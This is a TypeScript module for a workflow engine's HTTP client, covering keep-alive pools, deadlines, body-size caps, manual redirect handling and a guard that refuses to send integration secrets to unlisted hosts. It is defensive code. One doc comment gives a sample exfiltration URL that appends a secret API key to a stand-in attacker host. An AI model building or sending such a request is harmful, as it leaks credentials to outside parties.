/**
 * The HTTP client nodes talk to targets through: undici with keep-alive pools per origin, a deadline
 * per request, three distinct outcomes (an answer, a network error, a timeout), and every exchange
 * recorded for the execution log. A connection the outbound policy refuses is none of the three:
 * `send` throws it, so the node fails for good (see `outbound-policy.ts`).
 *
 * An answer counts only when its body arrived whole. A body cut short (a reset, or the connection
 * closed before the `Content-Length` or the last chunk) is a `network_error`, retryable like any:
 * half of `{"status":"ok","id":…` is not the target's answer. A body over {@link MAX_BODY_BYTES}
 * is not read past it (nor at all when its `Content-Length` says so): a `network_error` whose
 * error starts with {@link RESPONSE_TOO_LARGE}. Both keep the status and headers that came, and
 * the record keeps the start of what was read (32 KB at most).
 *
 * Redirects are followed here, not by undici, so that every hop passes the same checks as the first
 * request: the secret-host guard (a hop to a host outside the integration's allowed hosts that
 * carries a secret is refused before anything is sent to it), the rate limit, and the outbound
 * policy (each hop connects through the same guarded connector). Each hop is its own HTTP record.
 * What is followed, up to {@link MAX_REDIRECTS} hops, is what keeps the request's meaning:
 * - 307 and 308, for any method, with the same method, headers and body;
 * - 301 and 302 for GET and HEAD only: a POST is not turned into a GET the way old browsers did,
 *   since the target would then get a lead without its body;
 * - 303 for any method, as a GET without a body: RFC 9110 makes it "the answer to your request is
 *   over there", so the POST was received and the GET reads its outcome, as browsers do.
 * Any other 3xx, or a 3xx after the last hop, is returned as the answer it is; HTTP Request takes
 * its `redirect` exit with a retryable failure.
 */
import { Agent, request, type Dispatcher } from 'undici';
import type { HttpClient, HttpExchange, HttpRequestSpec } from '../../core/node/contract.ts';
import type { FlowEvent, Integration } from '../../core/domain/config.ts';
import type { FlowDoc } from '../../core/domain/flow.ts';
import type { ReadinessGap } from '../../core/readiness.ts';
import type { HttpRecord } from '../store/types.ts';
import { guardedConnector, outboundRefusalOf, type OutboundPolicy } from './outbound-policy.ts';
import { formsPattern, secretForms } from './redact.ts';

/**
 * The most of an answer's body the client reads: past it the request fails as
 * {@link RESPONSE_TOO_LARGE} and the connection is dropped, so a target that answers 50 MB (or
 * streams forever) costs at most this much memory, and the record keeps only its capped start.
 */
export const MAX_BODY_BYTES = 5 * 1024 * 1024;

/**
 * The code an exchange's `error` starts with (`response_too_large: …`) when the answer was larger
 * than {@link MAX_BODY_BYTES}. The exchange is a `network_error` — no node may read a cut-off
 * body as the target's answer — with the status and headers that came; HTTP Request reads the
 * code and fails for good (see `nodes/http-request.ts`).
 */
export const RESPONSE_TOO_LARGE = 'response_too_large';

/** How much of a body that could not be read whole is kept for the record (under its 64 KB cap). */
const KEPT_OF_UNREAD = 32 * 1024;

/** Redirects followed for one request; the answer after the last hop is returned whatever it is. */
export const MAX_REDIRECTS = 3;

/**
 * The request a redirect answer leads to, or undefined when it is not followed (see the module's
 * comment for which are). A `Location` that is missing, malformed or not http(s) is not followed.
 */
export function redirectTarget(spec: HttpRequestSpec, status: number, headers: Record<string, string>): HttpRequestSpec | undefined {
  const location = Object.entries(headers).find(([name]) => name.toLowerCase() === 'location')?.[1];
  if (!location) return undefined;
  let url: URL;
  try {
    url = new URL(location, spec.url);
  } catch {
    return undefined;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return undefined;
  const method = spec.method.toUpperCase();
  const reading = method === 'GET' || method === 'HEAD';
  if (status === 307 || status === 308) return { ...spec, url: url.href };
  if ((status === 301 || status === 302) && reading) return { ...spec, url: url.href };
  if (status === 303) {
    // the body's own headers go with the body
    const kept = Object.entries(spec.headers).filter(([name]) => !/^content-(type|length|encoding)$/i.test(name));
    return { ...spec, method: method === 'HEAD' ? 'HEAD' : 'GET', url: url.href, headers: Object.fromEntries(kept), body: undefined };
  }
  return undefined;
}

/**
 * One shared agent: undici keeps a keep-alive pool per origin inside it. Every connection it opens
 * is checked against `policy` at connect time, on the resolved address. The runtime passes its
 * configured policy; without one (the CLI, engine tests talking to 127.0.0.1) only the
 * link-local and metadata addresses, which no policy allows, are refused.
 */
export function createAgent(policy: OutboundPolicy = { allowPrivate: true }): Agent {
  return new Agent({ keepAliveTimeout: 10_000, connections: 128, pipelining: 1, connect: guardedConnector(policy) });
}

/**
 * A request that carries one of the integration's secrets to a host outside its allowed hosts. The
 * request is not sent, and the node fails for good: retrying cannot change where it points.
 */
export class SecretHostRefused extends Error {
  readonly code = 'secret_not_allowed';
  constructor(
    /** The secret's name (never its value). */
    readonly secret: string,
    readonly host: string,
    allowed: readonly string[],
  ) {
    super(
      `the request carries the secret "${secret}" to ${host}, which is not among the integration's allowed hosts (${
        allowed.length ? allowed.join(', ') : 'none: set base_url or allowedHosts'
      })`,
    );
  }
}

/**
 * The hosts an integration's secrets may go to: its `allowedHosts`, or when it has none the host of
 * its `base_url` setting. An entry is `host` (any port), `host:port` (that port only) or `*.domain`
 * (its subdomains, any port); `base_url`'s host keeps the port it names, if any.
 */
export function allowedHostsOf(integration: Pick<Integration, 'allowedHosts' | 'settings'>): string[] {
  if (integration.allowedHosts?.length) return integration.allowedHosts.map((h) => h.trim().toLowerCase()).filter(Boolean);
  const base = integration.settings?.base_url;
  if (!base) return [];
  try {
    return [new URL(base).host.toLowerCase()];
  } catch {
    return [];
  }
}

/** Whether `url`'s host is one of `allowed` (see {@link allowedHostsOf}). */
export function hostAllowed(url: URL, allowed: readonly string[]): boolean {
  const hostname = url.hostname.toLowerCase().replace(/\.$/, '');
  const port = url.port || (url.protocol === 'https:' ? '443' : '80');
  return allowed.some((entry) => {
    const match = /^(\[[^\]]+\]|[^:]+)(?::(\d+))?$/.exec(entry);
    if (!match) return false;
    const [, host, entryPort] = match;
    if (entryPort !== undefined && entryPort !== port) return false;
    const name = host.replace(/\.$/, '');
    return name.startsWith('*.') ? hostname.endsWith(name.slice(1)) : hostname === name;
  });
}

/**
 * The check every request of a run passes before it is sent: a request whose URL, headers or body
 * holds one of `secrets` in any form redaction knows (`redact.ts`) may go only to `allowed` hosts.
 * Throws {@link SecretHostRefused} otherwise.
 */
export function secretHostGuard(secrets: Record<string, string>, allowed: readonly string[]): (spec: HttpRequestSpec) => void {
  const named = Object.entries(secrets).filter(([, value]) => typeof value === 'string' && value.length >= 4);
  // the patterns are made at the first request to a host not allowed: most runs send none
  let patterns: { name: string; pattern: RegExp }[] | undefined;
  return (spec) => {
    if (named.length === 0) return;
    let url: URL;
    try {
      url = new URL(spec.url);
    } catch {
      return; // undici refuses it without sending anything
    }
    if (hostAllowed(url, allowed)) return;
    patterns ??= named.map(([name, value]) => ({ name, pattern: formsPattern(secretForms(value)) }));
    const headers = Object.entries(spec.headers ?? {}).map(([name, value]) => `${name}: ${String(value)}`);
    const texts = [spec.url, ...headers, ...basicCredentials(spec.headers ?? {}), typeof spec.body === 'string' ? spec.body : ''];
    for (const { name, pattern } of patterns) {
      pattern.lastIndex = 0;
      if (texts.some((text) => ((pattern.lastIndex = 0), pattern.test(text)))) throw new SecretHostRefused(name, url.host, allowed);
    }
  };
}

/**
 * The `id:secret` inside an `Authorization: Basic` header (Auth Token's OAuth 2 client
 * authentication), decoded: base64 of the pair hides each secret from the forms redaction knows.
 */
function basicCredentials(headers: Record<string, string>): string[] {
  const out: string[] = [];
  for (const [name, value] of Object.entries(headers)) {
    const basic = name.toLowerCase() === 'authorization' ? /^\s*basic\s+([A-Za-z0-9+/=]+)\s*$/i.exec(String(value)) : null;
    if (basic) out.push(Buffer.from(basic[1], 'base64').toString('utf8'));
  }
  return out;
}

/** The node types whose `url` param is where their request goes. */
const SENDING_NODES = new Set(['http-request', 'auth-token']);

/**
 * The check made before a run, where it is knowable: a node of `flow` that names a secret and
 * whose URL is written with a literal host (`https://evil.example/?k={{secrets.api_key}}`) would
 * be refused at run time if the host is not allowed; readiness shows it as a gap at once. A URL
 * whose host comes from a template (`{{integration.settings.base_url}}/…`) is checked at run time only.
 */
export function secretHostGaps(
  flow: Pick<FlowDoc, 'id' | 'nodes'>,
  event: FlowEvent,
  integration: Pick<Integration, 'allowedHosts' | 'settings'>,
): ReadinessGap[] {
  const allowed = allowedHostsOf(integration);
  const gaps: ReadinessGap[] = [];
  for (const node of flow.nodes) {
    const url = (node.params as { url?: unknown } | undefined)?.url;
    if (!SENDING_NODES.has(node.type) || typeof url !== 'string') continue;
    if (!/\{\{\s*secrets\./.test(JSON.stringify(node.params))) continue;
    const literal = /^\s*(https?:\/\/[^/?#{}\s]+)(?:[/?#]|$)/i.exec(url);
    let target: URL;
    try {
      if (!literal) continue;
      target = new URL(literal[1]);
    } catch {
      continue;
    }
    if (hostAllowed(target, allowed)) continue;
    gaps.push({
      kind: 'flow-problem',
      field: `flows.${event}`,
      event,
      flowId: flow.id,
      nodeId: node.id,
      nodeField: 'params.url',
      message: `node "${node.id}" sends the integration's secrets to ${target.host}, which is not among its allowed hosts (${
        allowed.length ? allowed.join(', ') : 'none'
      }): add it to allowedHosts or send it to base_url`,
    });
  }
  return gaps;
}

function flatHeaders(headers: Record<string, string | string[] | undefined>): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [name, value] of Object.entries(headers)) {
    if (value !== undefined) out[name] = Array.isArray(value) ? value.join(', ') : value;
  }
  return out;
}

/** A body that could not be read whole: too large, or the connection ended before it did. */
class UnreadBody extends Error {
  constructor(
    message: string,
    /** What was read of it, for the record: at most {@link KEPT_OF_UNREAD} bytes, and a note when it was cut. */
    readonly start: string,
  ) {
    super(message);
  }
}

/** The first {@link KEPT_OF_UNREAD} bytes read, as text (a character cut at the end dropped). */
function startOf(chunks: Buffer[]): string {
  const size = chunks.reduce((n, c) => n + c.length, 0);
  // concat copies only the length asked for, not the megabytes read
  const start = Buffer.concat(chunks, Math.min(size, KEPT_OF_UNREAD)).toString('utf8');
  return size > KEPT_OF_UNREAD ? start.replace(/\uFFFD$/, '') : start;
}

const megabytes = (bytes: number) => `${Math.round((bytes / (1024 * 1024)) * 10) / 10} MB`;

/**
 * The body as text, read to its end. Throws {@link UnreadBody} for one over
 * {@link MAX_BODY_BYTES} (at once when its `Content-Length` says so, before a byte is read) and
 * for one the connection cut short (a reset, or a close before the announced length): either way
 * what came is not the target's answer.
 */
async function readBody(
  body: Dispatcher.ResponseData['body'],
  headers: Record<string, string>,
  /** A HEAD, 204 or 304 answer has no body, whatever length its headers give the resource. */
  bodyless: boolean,
): Promise<string> {
  const length = bodyless ? undefined : Object.entries(headers).find(([name]) => name.toLowerCase() === 'content-length')?.[1];
  const declared = length === undefined ? NaN : Number(length);
  if (Number.isFinite(declared) && declared > MAX_BODY_BYTES) {
    body.destroy();
    throw new UnreadBody(
      `${RESPONSE_TOO_LARGE}: the answer's Content-Length is ${declared} bytes (${megabytes(declared)}), over the ${megabytes(MAX_BODY_BYTES)} an answer may have; not read`,
      '',
    );
  }
  const chunks: Buffer[] = [];
  let size = 0;
  try {
    for await (const chunk of body) {
      size += chunk.length;
      if (size > MAX_BODY_BYTES) {
        body.destroy();
        const start = `${startOf(chunks)} [cut by the HTTP client: the answer went past ${megabytes(MAX_BODY_BYTES)}; the rest was not read]`;
        throw new UnreadBody(
          `${RESPONSE_TOO_LARGE}: the answer went past ${megabytes(MAX_BODY_BYTES)}, the most an answer may have; reading stopped there`,
          start,
        );
      }
      chunks.push(chunk as Buffer);
    }
  } catch (error) {
    if (error instanceof UnreadBody) throw error;
    const start = startOf(chunks);
    const of = Number.isFinite(declared) ? ` of ${declared}` : '';
    throw new UnreadBody(`the connection ended after ${size}${of} bytes of the answer (${describeError(error)})`, start);
  }
  return Buffer.concat(chunks).toString('utf8');
}

function describeError(error: unknown): string {
  const e = error as { code?: string; message?: string; cause?: { code?: string; message?: string } };
  const code = e.code ?? e.cause?.code;
  const message = e.cause?.message ?? e.message ?? String(error);
  return code && !message.includes(code) ? `${code}: ${message}` : message;
}

/**
 * A client whose exchanges go to `record`. `signal` is the node's own deadline: when it fires, the
 * request ends as a timeout too. It may be given as a function, asked for only when a request is
 * sent (the step makes its signal only for a node that sends one).
 */
export function createHttpClient(
  agent: Dispatcher,
  record: (exchange: HttpRecord) => void,
  signal?: AbortSignal | (() => AbortSignal),
  /** Waits for the integration's rate limit before each request. */
  gate?: () => Promise<void>,
  /** Throws for a request that must not be sent (see {@link secretHostGuard}). */
  guard?: (spec: HttpRequestSpec) => void,
): HttpClient {
  /** One request, recorded; its deadline (`abort`) is shared by every hop of the request. */
  async function sendOnce(spec: HttpRequestSpec, abort: AbortSignal, timeoutMs: number): Promise<HttpExchange> {
    const requestRecord: HttpRecord['request'] = { method: spec.method, url: spec.url, headers: spec.headers, body: spec.body };
    try {
      guard?.(spec);
    } catch (error) {
      // recorded (the executor masks the secret) so the execution shows what was stopped, never sent
      record({ request: requestRecord, outcome: 'network_error', error: (error as Error).message, durationMs: 0 });
      throw error;
    }
    if (gate) await gate();
    const started = performance.now();
    let exchange: HttpExchange;
    let refused: Error | undefined;
    /** What came of an answer whose body could not be read whole: recorded, never handed on as its text. */
    let unread: string | undefined;
    let status: number | undefined;
    let headers: Record<string, string> | undefined;
    try {
      const answer = await request(spec.url, {
        method: spec.method as Dispatcher.HttpMethod,
        headers: spec.headers,
        body: spec.body,
        dispatcher: agent,
        signal: abort,
      });
      status = answer.statusCode;
      headers = flatHeaders(answer.headers);
      const text = await readBody(answer.body, headers, spec.method.toUpperCase() === 'HEAD' || status === 204 || status === 304);
      exchange = { outcome: 'answer', status, headers, text, durationMs: performance.now() - started };
    } catch (error) {
      refused = outboundRefusalOf(error);
      const timedOut = !refused && (abort.aborted || (error as { code?: string }).code === 'UND_ERR_CONNECT_TIMEOUT');
      if (error instanceof UnreadBody) unread = error.start;
      exchange = {
        // a half-read body is a network failure like a reset: the answer did not arrive
        outcome: timedOut ? 'timeout' : 'network_error',
        ...(status !== undefined ? { status, headers } : {}),
        error: refused
          ? refused.message
          : timedOut
            ? `no answer within ${timeoutMs} ms${unread !== undefined ? ' (the body did not finish in time)' : ''}`
            : error instanceof UnreadBody
              ? error.message
              : describeError(error),
        durationMs: performance.now() - started,
      };
    }
    record({
      request: requestRecord,
      response:
        exchange.outcome === 'answer'
          ? { status: exchange.status as number, headers: exchange.headers ?? {}, body: exchange.text ?? '' }
          : status !== undefined
            ? { status, headers: headers ?? {}, body: unread ?? '' }
            : undefined,
      outcome: exchange.outcome,
      error: exchange.error,
      durationMs: Math.round(exchange.durationMs * 100) / 100,
    });
    // recorded like any failed exchange, then thrown: a node would take its network_error exit
    // and be retried, and a refusal does not heal by retrying
    if (refused) throw refused;
    return exchange;
  }

  return {
    async send(spec: HttpRequestSpec): Promise<HttpExchange> {
      const started = performance.now();
      // one deadline for the request and its redirects: `timeoutMs` is how long the node waits for
      // an answer. A controller, a timer and a listener on the node's signal, not
      // `AbortSignal.any([AbortSignal.timeout(…), signal])`: the same, at a sixth of the CPU
      const node = typeof signal === 'function' ? signal() : signal;
      const deadline = new AbortController();
      const timer = setTimeout(
        () => deadline.abort(new DOMException('The operation was aborted due to timeout', 'TimeoutError')),
        spec.timeoutMs,
      );
      timer.unref();
      const nodeAborted = () => deadline.abort(node?.reason);
      if (node?.aborted) nodeAborted();
      else node?.addEventListener('abort', nodeAborted, { once: true });
      try {
        let current = spec;
        for (let hop = 0; ; hop++) {
          const exchange = await sendOnce(current, deadline.signal, spec.timeoutMs);
          const next =
            exchange.outcome === 'answer' && hop < MAX_REDIRECTS
              ? redirectTarget(current, exchange.status ?? 0, exchange.headers ?? {})
              : undefined;
          if (!next) return hop === 0 ? exchange : { ...exchange, durationMs: performance.now() - started };
          current = next;
        }
      } finally {
        clearTimeout(timer);
        node?.removeEventListener('abort', nodeAborted);
      }
    },
  };
}
